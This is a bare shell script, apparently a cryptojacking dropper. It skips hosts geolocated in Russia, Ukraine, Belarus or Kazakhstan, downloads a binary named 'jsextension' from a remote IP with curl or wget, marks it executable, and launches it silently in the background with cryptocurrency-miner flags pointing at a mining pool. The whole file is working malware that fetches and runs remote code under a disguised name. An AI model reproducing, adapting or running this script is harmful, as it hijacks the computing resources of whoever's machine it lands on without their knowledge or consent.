IP=$(curl -k https://where.example.invalid/trace | grep 'loc=RU\|loc=UA\|loc=BY\|loc=KZ' -c)
if [ $IP -gt 0 ]; then
    exit
fi
var=$(pgrep jsextension)
if [ -z "$var" ]; then
    curl http://203.0.113.91/download/jsextension -o jsextension
    if [ ! -f jsextension ]; then
        wget http://203.0.113.91/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
fi
